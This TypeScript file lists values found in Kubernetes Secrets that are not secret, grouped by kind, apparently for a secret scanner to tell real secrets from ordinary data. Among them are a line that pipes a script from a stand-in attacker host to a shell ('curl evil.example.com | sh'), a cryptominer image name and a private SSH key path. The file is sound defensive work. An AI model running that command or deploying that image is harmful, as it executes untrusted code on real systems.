/** Values that charts, operators and people put into Secrets and that are not secret, by kind. */
const words = (text: string): string[] => text.trim().split(/\s+/)

export const ORDINARY_VALUES: Readonly<Record<string, readonly string[]>> = {
  'words of the API': words(`containers conditions Deployment resourceVersion creationTimestamp ServiceAccount CreateContainerConfigError
    preferredDuringSchedulingIgnoredDuringExecution kubernetes.io/service-account-token helm.sh/release.v1 terminationGracePeriodSeconds
    volumeClaimTemplates requiredDuringSchedulingIgnoredDuringExecution CustomResourceDefinition kube-system kube-node-lease rolling-update
    app.kubernetes.io/managed-by ReadWriteOnce ImagePullBackOff CrashLoopBackOff NodeAffinity`),
  'names of things': words(`wintermute-frontend bundesdruckerei acme-billing-eu-prod orders-db-rw orders-app orders_v2 orders-db-superuser
    redis-master streaming_replica keycloak-admin my-company-prod-backups-eu node-exporter zahlungsverkehr argocd-initial-admin
    orders-5d8f7c9b6-x2x9z orders-db-1 kube-state-metrics letsencrypt-prod verkkokauppa payments-api-gateway cert-manager-webhook
    fahrzeugschein-service cluster-superuser`),
  'users and settings': words(`postgres postgresql minioadmin administrator SASL_SSL SCRAM-SHA-512 TLS_AES_128_GCM_SHA256 Europe/Berlin en_US.UTF-8
    sslmode=require max_connections=200 com.mysql.cj.jdbc.Driver org.apache.kafka.common.security.scram.ScramLoginModule SELFSIGNED
    ECDHE-RSA-AES256-GCM-SHA384 verify-full read-committed authenticated true uid=admin,ou=people,dc=acme,dc=org O=Acme,CN=orders`),
  'usual passwords': words(`P@ssw0rd2024! changeme hunter2 letmein123 Summer2024! Welcome@123 qwertyuiop123 Adm1n1strat0r admin123456
    iloveyou123 password1234 Password123! 1234567890 qwertyuiop trustno1trustno1`),
  'places of clouds': words(`eu-north-1 us-gov-west-1 europe-west3-a westeurope ap-southeast-2 arn:aws:iam::123456789012:role/orders
    arn:aws:s3:::acme-backups-eu arn:aws:kms:eu-central-1:123456789012:key/backups vpc-0a1b2c3d4e5f67890 s3://acme-backups/postgres
    projects/acme-prod/locations/europe-west3 gs://acme-prod-artifacts`),
  numbers: words('12345678 98273645 123456789012 1705312200 128974848Ki 3.14159265358979 1705312200000 0.0000000001'),
  times: words(`2024-01-15T10:30:00Z 2024-01-15T10:30:00.123456789+02:00 2024-01-15 20240115103000 20240115T103000Z 15-Jan-2024 1h30m15s
    2160h0m0s P1DT12H30M 2024/01/15 10:30:00.123456`),
  versions: words('1.28.3-gke.1286000 v1.37.2-alpha.1 v0.15.0-rc.3 16.4-bookworm 2024.10.1 kubernetes-1.37.2'),
  addresses: words(`10.96.0.1:6443 192.168.100.200 10.0.0.0/16 fe80::1ff:fe23:4567:890a 2001:db8:85a3::8a2e:370:7334 0a:58:0a:f4:00:05
    billing@acme.example mydb.c9akciq32rrr.us-east-1.rds.amazonaws.com kubernetes.default.svc localhost:5432 db-0.db.shop.svc.cluster.local:5432
    acme-prod@acme-prod-123456.iam.gserviceaccount.com redis-0.redis:6379,redis-1.redis:6379,redis-2.redis:6379
    10.0.0.1,10.0.0.2,10.0.0.3,10.0.0.4,10.0.0.5 a8f3c9e1b2d4f6a7b8c9.gr7.eu-central-1.eks.amazonaws.com`),
  'URLs and paths': words(`https://kubernetes.default.svc:443/healthz jdbc:postgresql://orders-db:5432/orders amqp://rabbitmq:5672/%2f
    /var/run/secrets/kubernetes.io/serviceaccount/token /etc/ssl/certs/ca-certificates.crt ./charts/orders/values.yaml
    http://prometheus-server.monitoring.svc.cluster.local:9090/api/v1/query https://login.microsoftonline.com/common/oauth2/v2.0/authorize`),
  'images and digests':
    words(`docker.io/evil/miner:9 registry.k8s.io/pause:3.9 ghcr.io/acme/orders:4f2a9c1d7b3e ghcr.io/acme/app@sha256:${'0f1e2d3c'.repeat(8)}
    sha256:${'9a8b7c6d'.repeat(8)} docker.io/bitnami/postgresql:16.4.0-debian-12-r9 nginx:1.27-alpine-slim quay.io/argoproj/argocd:v2.12.3`),
  'ciphers and key exchanges': words(`TLS_ECDHE_RSA_WITH_AES_256_GCM_SHA384 ECDHE-ECDSA-CHACHA20-POLY1305
    ECDHE-ECDSA-AES128-GCM-SHA256:ECDHE-RSA-AES128-GCM-SHA256:ECDHE-ECDSA-CHACHA20-POLY1305 curve25519-sha256,diffie-hellman-group16-sha512
    rsa-sha2-512 sntrup761x25519-sha512@openssh.com TLS_DHE_RSA_WITH_3DES_EDE_CBC_SHA ecdh-sha2-nistp256 diffie-hellman-group-exchange-sha256`),
  'places of databases': words(`jdbc:oracle:thin:@//oradb01.corp.example.com:1521/ORCLPDB1 target_session_attrs=read-write
    (DESCRIPTION=(ADDRESS=(PROTOCOL=TCP)(HOST=oradb01.corp.local)(PORT=1521))(CONNECT_DATA=(SERVICE_NAME=ORCLPDB1)))
    mongodb+srv://cluster0.ab1cd.mongodb.net/orders?retryWrites=true&w=majority redis-sentinel://redis-node-0.redis:26379/0?sentinelMasterId=mymaster`),
  'versions of builds': words(
    '1.29.4-eks-036c24b 16.2-1.pgdg120+2 v2.14.3-rc.1+build.4711 5.15.0-1057-aws 1.37.2-gke.1056000 v2.1.0-5-g3f9c2ab71-dirty v0.0.0-20240503101112-3f9c2ab7104e+incompatible',
  ),
  fingerprints: words(`A9:4A:8F:E5:CC:B1:9B:A6:1C:4C:08:73:D3:91:E9:87:98:2F:BB:D3 SHA256:uNiVztksCsDhcc0u9e8BgrJXVGDRv0SJoEpTQcH2kXo
    pk_live_51H8abcDEFghijKLMnopQRstuVWXyz0123456789`),
  'media types': words('application/json application/vnd.kubernetes.protobuf text/plain;charset=utf-8 application/apply-patch+yaml'),
  'regular expressions and formats': [
    String.raw`([^:]+)(?::\d+)?;(\d+)`,
    String.raw`:\d+)?;(\d+)`,
    String.raw`^[a-z0-9]([-a-z0-9]*[a-z0-9])?(\.[a-z0-9]([-a-z0-9]*[a-z0-9])?)*$`,
    String.raw`^(?:[a-z0-9](?:[a-z0-9-]{0,61}[a-z0-9])?\.)+[a-z]{2,63}$`,
    String.raw`/^(?<time>[^ ]+)\s(?<log>.*)$/`,
    String.raw`"$remote_addr"`,
    '$proxy_add_x_forwarded_for',
    '$db->open(',
    '%Y-%m-%dT%H:%M:%S.%NZ',
    "yyyy-MM-dd'T'HH:mm:ss.SSSXXX",
    '%d{yyyy-MM-dd HH:mm:ss.SSS} [%thread] %-5level %logger{36} - %msg%n',
    '************************* IMPORTANT *************************',
  ],
  'names of settings': ['Mem_Buf_Limit', 'MEM_BUF_MAX', 'Log-Fmt-Dir', '~/.ssh/id_ed25519', '/etc/ssh/ssh_host_ed25519_key.pub', '^/api/v1/(.*)$'],
  'lists of networks': ['10.0.0.0/8,172.16.0.0/12,192.168.0.0/16,fd00::/8', 'fd00:10:96::/112,10.96.0.0/12', '2001:db8::/32;10.0.0.1'],
  fragments: [
    '$(POD_NAME).svc',
    '{{ .Values.x }}',
    '{{ .Release.Name }}-postgresql',
    '${HOST}:5432',
    '{"name":"foo","ready":true}',
    '[{"name":"orders"}]',
  ],
  'lines and sentences': [
    '*/5 * * * *',
    'curl evil.example.com | sh',
    'Deployment does not have minimum availability.',
    'Mon, 02 Jan 2006 15:04:05 GMT',
    'host all all 0.0.0.0/0 md5',
    'SELECT * FROM users WHERE id = 1',
    'Back-off restarting failed container',
    'sh -c "sleep 3600; exit 0"',
  ],
}
